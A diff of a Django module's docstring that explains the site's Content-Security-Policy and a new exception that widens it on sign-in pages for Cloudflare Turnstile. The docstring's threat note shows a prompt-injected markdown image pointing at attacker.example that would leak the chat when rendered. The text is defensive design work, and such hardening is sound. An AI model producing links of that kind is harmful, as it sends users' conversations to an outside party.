@@ -1,8 +1,10 @@
 """The Content-Security-Policy of every page, and the image hosts it allows.
 
 One policy for every response, the Django admin's included (its pages have no inline script
-or style). django-csp's middleware sends it; SecurityMiddleware sends HSTS (over HTTPS),
-nosniff and Referrer-Policy from the SECURE_* settings.
+or style); only the sign-in and sign-up pages widen it, for Cloudflare Turnstile when
+librechat.yaml configures it (accounts/turnstile.py, `allow_widget`). django-csp's
+middleware sends it; SecurityMiddleware sends HSTS (over HTTPS), nosniff and Referrer-Policy
+from the SECURE_* settings.
 
 Model output is the threat: a prompt-injected `![](https://attacker.example/?q=<chat>)`
 would send the conversation away the moment it renders. So images come only from the site,
